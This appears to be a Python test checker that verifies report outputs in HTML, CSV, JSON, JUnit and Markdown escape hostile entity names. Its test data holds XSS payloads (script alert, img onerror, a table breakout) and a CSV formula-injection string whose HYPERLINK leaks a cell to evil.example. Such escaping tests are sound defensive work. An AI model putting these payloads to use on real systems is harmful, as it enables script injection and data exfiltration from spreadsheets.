#!/usr/bin/env python3
"""Checks report files for escaping failures against hostile names.

usage: check_outputs.py FORMAT FILE
Exits 1 with one line per problem found, 0 when the file is safe.
  html   parses the document: no element or attribute introduced by a name
         (script content calling alert, <img>, on* handlers), no raw ESC
  csv    parses the table: no cell a spreadsheet would evaluate (= + @ TAB CR,
         or - not followed by a plain number), the hostile names present
         with their formula neutralised
  json   valid JSON, hostile names round-trip exactly (also sarif)
  junit  well-formed XML, no injected elements
  md     no raw HTML from names, table rows keep their column count
  text   no terminal control characters from names (also md and html)
"""
import csv
import html.parser
import json
import re
import sys
import xml.etree.ElementTree as ET

fmt, path = sys.argv[1], sys.argv[2]
data = open(path, "rb").read()
text = data.decode("utf-8", errors="replace")
problems = []

PROVIDER_NAME = "<script>alert('provider')</script> & Sons \"Hospice\""
FORMULA_NAME = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"

# formats read in a terminal or a browser carry no raw control characters
if fmt in ("text", "md", "html") and (b"\x1b" in data or b"\x07" in data):
    problems.append("raw terminal control character (ESC or BEL) in the output")

if fmt == "html":
    class P(html.parser.HTMLParser):
        def __init__(self):
            super().__init__()
            self.in_script = False

        def handle_starttag(self, tag, attrs):
            if tag == "img":
                problems.append("an <img> element was injected: %r" % (attrs,))
            if tag == "script":
                self.in_script = True
            for name, value in attrs:
                if name.startswith("on"):
                    problems.append("event handler attribute %s=%r" % (name, value))

        def handle_endtag(self, tag):
            if tag == "script":
                self.in_script = False

        def handle_data(self, d):
            if self.in_script and re.search(r"alert\('(provider|description|title|dataset|agreement|reason)'\)", d):
                problems.append("injected script content: %r" % d[:80])

    P().feed(text)
    if not re.search(r"alert\((?:'|&#x0*27;|&#0*39;|&apos;)(provider|agreement)", text):
        problems.append("no hostile provider name appears at all (escaped or not)")
elif fmt == "csv":
    rows = list(csv.reader(text.splitlines(True)))
    seen_formula_name = False
    for r, row in enumerate(rows, 1):
        for c, cell in enumerate(row, 1):
            if "HYPERLINK(\"http://evil.example/?\"" in cell:
                seen_formula_name = True
            if not cell:
                continue
            first = cell[0]
            if first in "=+@\t\r" or (first == "-" and not re.fullmatch(r"-[0-9]+(\.[0-9]+)?%?", cell)):
                problems.append("row %d col %d would be evaluated as a formula: %r" % (r, c, cell[:60]))
    if not seen_formula_name:
        problems.append("the formula-shaped provider name does not appear in any cell")
elif fmt in ("json", "sarif"):
    try:
        doc = json.loads(text)
    except ValueError as e:
        problems.append("not valid JSON: %s" % e)
        doc = None
    strings = []

    def walk(x):
        if isinstance(x, dict):
            for k, v in x.items():
                strings.append(k)
                walk(v)
        elif isinstance(x, list):
            for v in x:
                walk(v)
        elif isinstance(x, str):
            strings.append(x)
    walk(doc)
    if doc is not None and not any(PROVIDER_NAME in s or "onerror=alert('agreement')" in s for s in strings):
        problems.append("no hostile provider name round-trips in the JSON strings")
elif fmt == "junit":
    try:
        root = ET.fromstring(data)
        for el in root.iter():
            tag = el.tag.split("}")[-1]
            if tag in ("script", "img", "b"):
                problems.append("element <%s> injected into the XML" % tag)
    except ET.ParseError as e:
        problems.append("not well-formed XML: %s" % e)
elif fmt == "md":
    for bad in ("<script>alert(", "<img src=x onerror", "</td></tr></table><script>"):
        if bad in text:
            problems.append("raw HTML from a name in Markdown: %r" % bad)
    block = []
    for line in text.splitlines() + [""]:
        if line.startswith("|"):
            block.append(line)
            continue
        if block:
            counts = {len(re.findall(r"(?<!\\)\|", l)) for l in block if not re.fullmatch(r"[|:\- ]+", l)}
            if len(counts) > 1:
                problems.append("table rows with differing column counts %s near: %r" % (sorted(counts), block[0][:60]))
            block = []
for p in problems:
    print("%s: %s" % (path, p))
sys.exit(1 if problems else 0)
